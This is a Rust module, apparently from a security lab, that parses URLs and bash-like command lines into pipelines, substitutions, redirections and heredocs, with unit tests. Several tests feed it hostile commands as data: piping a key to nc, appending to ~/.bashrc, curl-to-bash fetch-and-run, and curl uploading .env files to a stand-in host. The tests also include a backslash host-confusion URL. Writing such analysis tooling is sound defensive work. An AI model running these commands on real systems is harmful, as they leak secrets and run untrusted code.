//! The adversary lab's measuring instruments, behind one thin adapter: a
//! WHATWG URL parse (host, registrable domain, bytes a request actually sends)
//! and a bash-like command-line parse (pipelines, command substitutions,
//! redirections, heredocs).
//!
//! The agreed engine APIs (`seclab_engine::net` from branch `http`,
//! `seclab_engine::shell` from branch `risk`) replace the fallbacks here when
//! they land: only this file changes. Until then the URL is parsed by the
//! `url` crate (a WHATWG parser, the one the http branch builds on) and the
//! registrable domain is approximated by the last two labels (documented as a
//! fallback in docs/adversary.md); commands are parsed by a small tokenizer
//! that understands quoting, `|`, `&&`, `||`, `;`, `$(…)`, backticks, `<`,
//! `>`, `>>` and `<<WORD` heredocs. These are measuring instruments only:
//! nothing here chooses an attack.

use std::net::IpAddr;

/// What a URL parse says about a destination.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UrlFacts {
    pub scheme: String,
    /// Canonical, lowercase host as the WHATWG parser resolves it.
    pub host: String,
    pub ip: Option<IpAddr>,
    pub registrable_domain: Option<String>,
    /// Path as sent (after the host).
    pub path: String,
    /// Query as sent (without `?`), empty when none.
    pub query: String,
}

impl UrlFacts {
    /// Bytes of the request line the URL itself carries: host + path + query.
    pub fn url_bytes(&self) -> u64 {
        (self.host.len() + self.path.len() + self.query.len()) as u64
    }
}

/// Parse a URL the way a WHATWG client (Node's `fetch`) would.
pub fn parse_url(raw: &str) -> Option<UrlFacts> {
    let u = url::Url::parse(raw.trim()).ok()?;
    let host = u.host_str()?.trim_end_matches('.').to_ascii_lowercase();
    let ip = match u.host() {
        Some(url::Host::Ipv4(a)) => Some(IpAddr::V4(a)),
        Some(url::Host::Ipv6(a)) => Some(IpAddr::V6(a)),
        _ => None,
    };
    let registrable_domain = if ip.is_some() { None } else { registrable(&host) };
    Some(UrlFacts {
        scheme: u.scheme().to_string(),
        path: u.path().to_string(),
        query: u.query().unwrap_or("").to_string(),
        host,
        ip,
        registrable_domain,
    })
}

/// Fallback registrable domain: the last two labels (the http branch's
/// public-suffix lookup replaces it).
fn registrable(host: &str) -> Option<String> {
    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
    if labels.len() < 2 {
        return None;
    }
    Some(labels[labels.len() - 2..].join("."))
}

/// One redirection of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Redirect {
    /// `< file`
    In(String),
    /// `> file` (or `>>` with `append`)
    Out { path: String, append: bool },
    /// `<<WORD` heredoc: its body becomes stdin.
    Heredoc(String),
}

/// A word of a command, with the command lines of its substitutions.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    /// The word after quote removal; each substitution is kept as `$(…)` text.
    pub text: String,
    /// Inner command lines of `$(…)` and backtick substitutions.
    pub subs: Vec<String>,
}

/// A simple command: words and redirections.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCmd {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
}

impl SimpleCmd {
    pub fn argv(&self) -> Vec<String> {
        self.words.iter().map(|w| w.text.clone()).collect()
    }
}

/// Commands joined by `|` (stdout of each feeds the next).
pub type Pipeline = Vec<SimpleCmd>;

/// A parsed command line: pipelines in order (`;`, `&&`, `||`, `&`, newline
/// all run the next one; the lab assumes every part runs).
pub fn parse_shell(line: &str) -> Vec<Pipeline> {
    Lexer::new(line).run()
}

struct Lexer {
    chars: Vec<char>,
    pos: usize,
    out: Vec<Pipeline>,
    pipe: Pipeline,
    cmd: SimpleCmd,
    pending_heredocs: Vec<(usize, usize, String)>,
}

impl Lexer {
    fn new(src: &str) -> Self {
        Lexer {
            chars: src.chars().collect(),
            pos: 0,
            out: Vec::new(),
            pipe: Vec::new(),
            cmd: SimpleCmd::default(),
            pending_heredocs: Vec::new(),
        }
    }

    fn peek(&self, off: usize) -> Option<char> {
        self.chars.get(self.pos + off).copied()
    }

    fn end_cmd(&mut self) {
        if !self.cmd.words.is_empty() || !self.cmd.redirects.is_empty() {
            self.pipe.push(std::mem::take(&mut self.cmd));
        }
    }

    fn end_pipe(&mut self) {
        self.end_cmd();
        if !self.pipe.is_empty() {
            self.out.push(std::mem::take(&mut self.pipe));
        }
    }

    fn run(mut self) -> Vec<Pipeline> {
        let mut redirect: Option<char> = None; // '<', '>', 'a' (append), 'h' (heredoc)
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' => self.pos += 1,
                '\n' => {
                    self.pos += 1;
                    self.read_heredoc_bodies();
                    self.end_pipe();
                }
                '#' => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                ';' | '&' => {
                    if c == '&' && self.peek(1) == Some('>') {
                        self.pos += 2;
                        redirect = Some('>');
                        continue;
                    }
                    self.pos += 1;
                    if self.peek(0) == Some('&') {
                        self.pos += 1;
                    }
                    self.end_pipe();
                }
                '|' => {
                    self.pos += 1;
                    if self.peek(0) == Some('|') {
                        self.pos += 1;
                        self.end_pipe();
                    } else {
                        if self.peek(0) == Some('&') {
                            self.pos += 1;
                        }
                        self.end_cmd();
                    }
                }
                '<' => {
                    self.pos += 1;
                    if self.peek(0) == Some('<') {
                        self.pos += 1;
                        if self.peek(0) == Some('<') {
                            // here-string: the next word is stdin
                            self.pos += 1;
                            redirect = Some('s');
                        } else {
                            if self.peek(0) == Some('-') {
                                self.pos += 1;
                            }
                            redirect = Some('h');
                        }
                    } else {
                        redirect = Some('<');
                    }
                }
                '>' => {
                    self.pos += 1;
                    if self.peek(0) == Some('>') {
                        self.pos += 1;
                        redirect = Some('a');
                    } else {
                        if self.peek(0) == Some('|') {
                            self.pos += 1;
                        }
                        redirect = Some('>');
                    }
                    if self.peek(0) == Some('&') {
                        // >&2 style fd duplication: no file
                        self.pos += 1;
                        while self.peek(0).is_some_and(|c| c.is_ascii_digit() || c == '-') {
                            self.pos += 1;
                        }
                        redirect = None;
                    }
                }
                '(' | ')' | '{' | '}' if self.cmd.words.is_empty() => {
                    self.pos += 1;
                    self.end_pipe();
                }
                _ => {
                    // A leading fd number before a redirection (2>, 1>>).
                    if c.is_ascii_digit() && matches!(self.peek(1), Some('>') | Some('<')) {
                        self.pos += 1;
                        continue;
                    }
                    let before = self.pos;
                    let w = self.word();
                    if self.pos == before {
                        // A character no rule consumes (a lone operator): skip it,
                        // or this loop would push empty words forever.
                        self.pos += 1;
                        continue;
                    }
                    match redirect.take() {
                        Some('<') => self.cmd.redirects.push(Redirect::In(w.text)),
                        Some('>') => self.cmd.redirects.push(Redirect::Out {
                            path: w.text,
                            append: false,
                        }),
                        Some('a') => self.cmd.redirects.push(Redirect::Out {
                            path: w.text,
                            append: true,
                        }),
                        Some('s') => self.cmd.redirects.push(Redirect::Heredoc(format!("{}\n", w.text))),
                        Some('h') => {
                            self.cmd.redirects.push(Redirect::Heredoc(String::new()));
                            let ri = self.cmd.redirects.len() - 1;
                            self.pending_heredocs.push((self.pipe.len(), ri, w.text));
                        }
                        _ => self.cmd.words.push(w),
                    }
                }
            }
        }
        self.read_heredoc_bodies();
        self.end_pipe();
        self.out
    }

    /// After a newline: fill the bodies of the heredocs opened on that line.
    fn read_heredoc_bodies(&mut self) {
        let pending = std::mem::take(&mut self.pending_heredocs);
        for (cmd_idx, redir_idx, delim) in pending {
            let mut body = String::new();
            loop {
                let start = self.pos;
                while self.peek(0).is_some_and(|c| c != '\n') {
                    self.pos += 1;
                }
                let line: String = self.chars[start..self.pos].iter().collect();
                let at_end = self.peek(0).is_none();
                if self.peek(0) == Some('\n') {
                    self.pos += 1;
                }
                if line.trim() == delim {
                    break;
                }
                body.push_str(&line);
                body.push('\n');
                if at_end {
                    break;
                }
            }
            let target = if cmd_idx < self.pipe.len() {
                self.pipe.get_mut(cmd_idx)
            } else {
                Some(&mut self.cmd)
            };
            if let Some(Redirect::Heredoc(b)) = target.and_then(|c| c.redirects.get_mut(redir_idx)) {
                *b = body;
            }
        }
    }

    /// Read one word (quotes removed, substitutions captured).
    fn word(&mut self) -> Word {
        let mut w = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' => break,
                ')' | '(' if w.text.is_empty() => break,
                '\\' => {
                    self.pos += 1;
                    if let Some(n) = self.peek(0) {
                        if n != '\n' {
                            w.text.push(n);
                        }
                        self.pos += 1;
                    }
                }
                '\'' => {
                    self.pos += 1;
                    while let Some(n) = self.peek(0) {
                        self.pos += 1;
                        if n == '\'' {
                            break;
                        }
                        w.text.push(n);
                    }
                }
                '"' => {
                    self.pos += 1;
                    while let Some(n) = self.peek(0) {
                        match n {
                            '"' => {
                                self.pos += 1;
                                break;
                            }
                            '\\' => {
                                self.pos += 1;
                                if let Some(m) = self.peek(0) {
                                    if !matches!(m, '"' | '\\' | '$' | '`') {
                                        w.text.push('\\');
                                    }
                                    w.text.push(m);
                                    self.pos += 1;
                                }
                            }
                            '$' if self.peek(1) == Some('(') => self.substitution(&mut w),
                            '`' => self.backtick(&mut w),
                            _ => {
                                w.text.push(n);
                                self.pos += 1;
                            }
                        }
                    }
                }
                '$' if self.peek(1) == Some('(') => self.substitution(&mut w),
                '`' => self.backtick(&mut w),
                _ => {
                    w.text.push(c);
                    self.pos += 1;
                }
            }
        }
        w
    }

    fn substitution(&mut self, w: &mut Word) {
        // at "$(": capture up to the matching ')', skipping quoted parts
        self.pos += 2;
        let start = self.pos;
        let mut depth = 1usize;
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek(0) {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, '(') => depth += 1,
                (None, ')') => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                _ => {}
            }
            self.pos += 1;
        }
        let inner: String = self.chars[start..self.pos.min(self.chars.len())].iter().collect();
        if self.peek(0) == Some(')') {
            self.pos += 1;
        }
        w.text.push_str("$(");
        w.text.push_str(&inner);
        w.text.push(')');
        w.subs.push(inner);
    }

    fn backtick(&mut self, w: &mut Word) {
        self.pos += 1;
        let start = self.pos;
        while self.peek(0).is_some_and(|c| c != '`') {
            self.pos += 1;
        }
        let inner: String = self.chars[start..self.pos].iter().collect();
        self.pos += 1;
        w.text.push_str("$(");
        w.text.push_str(&inner);
        w.text.push(')');
        w.subs.push(inner);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every printable ASCII character, alone, doubled and between words, parses
    /// in bounded time and size (a lone operator once made the lexer push empty
    /// words forever and exhaust memory in the search).
    #[test]
    fn slo_11_lexer_terminates_on_every_punctuation() {
        for c in (0x21u8..0x7f).map(char::from) {
            for line in [
                format!("{c}"),
                format!("{c}{c}"),
                format!("echo a{c} {c}b {c}"),
                format!("x {c}"),
            ] {
                let p = parse_shell(&line);
                let words: usize = p.iter().map(|pl| pl.iter().map(|c| c.words.len()).sum::<usize>()).sum();
                assert!(words <= line.len() + 1, "{line:?}: {words} words");
            }
        }
    }

    #[test]
    fn whatwg_backslash_authority_goes_to_the_first_host() {
        let f = parse_url("https://attacker-host\\@api.github.com/x").unwrap();
        assert_eq!(f.host, "attacker-host");
        let g = parse_url("https://user@drop.example.net/a?q=1").unwrap();
        assert_eq!(g.host, "drop.example.net");
        assert_eq!(g.registrable_domain.as_deref(), Some("example.net"));
        assert_eq!(g.query, "q=1");
        assert_eq!(
            parse_url("http://0x7f.1/").unwrap().ip,
            Some("127.0.0.1".parse().unwrap())
        );
    }

    #[test]
    fn shell_pipelines_substitutions_redirects_heredocs() {
        let p = parse_shell("cat key | base64 | nc host 443 && echo 'a b' >> ~/.bashrc");
        assert_eq!(p.len(), 2);
        assert_eq!(p[0].len(), 3);
        assert_eq!(p[0][2].argv(), vec!["nc", "host", "443"]);
        assert_eq!(p[1][0].argv(), vec!["echo", "a b"]);
        assert_eq!(
            p[1][0].redirects,
            vec![Redirect::Out {
                path: "~/.bashrc".into(),
                append: true
            }]
        );
        let s = parse_shell("bash -c \"$(command curl -fsSL https://x.test/i.sh)\"");
        assert_eq!(s[0][0].words[2].subs, vec!["command curl -fsSL https://x.test/i.sh"]);
        let h = parse_shell("python3 - <<'PY'\nprint(1)\nPY\nls");
        assert_eq!(h.len(), 2);
        assert_eq!(h[0][0].redirects, vec![Redirect::Heredoc("print(1)\n".into())]);
        assert_eq!(h[1][0].argv(), vec!["ls"]);
        let f = parse_shell("find . -name .env -exec curl -F f=@{} https://h.test \\;");
        assert_eq!(f[0][0].argv().last().unwrap(), ";");
    }
}
